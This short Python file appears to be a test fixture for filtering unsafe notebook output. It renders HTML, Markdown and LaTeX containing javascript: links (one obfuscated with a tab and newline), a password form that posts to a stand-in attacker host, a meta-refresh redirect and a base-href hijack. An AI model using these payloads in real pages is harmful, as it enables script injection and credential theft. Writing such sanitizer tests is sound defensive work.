"""Displays links and forms that run a script or send something away."""

FAMILY = "feedback"
HONEST = 2
PLAIN = "markup"
CODE = r"""
from IPython.display import HTML, Latex, Markdown, display

display(HTML("<a href='javascript:attack_runs()'>Your points</a><a href='\tjava\nscript:attack_runs()'>Again</a>"))
display(HTML("<form action='https://attack.invalid/attack'><input name=password><button>Log in</button></form>"))
display(HTML("<meta http-equiv=refresh content='0;url=https://attack.invalid/attack'>"))
display(HTML("<base href='//attack.invalid/attack'>"))
display(Markdown("[Your points](javascript:attack_runs())"))
display(Latex(r"$\href{javascript:attack_runs()}{points}$"))
"""
